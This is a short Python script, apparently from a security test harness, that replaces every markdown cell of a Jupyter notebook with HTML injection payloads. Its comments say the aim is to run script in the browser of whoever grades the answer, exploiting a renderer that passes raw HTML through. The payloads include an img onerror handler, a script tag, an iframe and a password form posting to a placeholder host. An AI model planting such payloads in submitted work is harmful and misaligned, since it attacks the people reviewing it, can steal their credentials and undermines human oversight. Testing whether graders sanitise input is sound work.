# aim: script in the browser of whoever grades the written answer
# pays: shown
# never: <img src=x onerror=@MARKER@
# never: <script>@MARKER@
# never: <iframe src="//@MARKER@
# never: <style>@MARKER@
# weak: renders Markdown with the HTML in it
import nbformat

ANSWER = """
<img src=x onerror=@MARKER@()>
<script>@MARKER@()</script>
<iframe src="//@MARKER@.example"></iframe>
<style>@MARKER@ { display: none }</style>
<form action="//@MARKER@.example"><input name=password></form>
"""


def attack(folder, release, marker):
    for cell in release.cells:
        if cell.cell_type == "markdown":
            cell.source = ANSWER
    nbformat.write(release, folder / "seq2seq.ipynb")
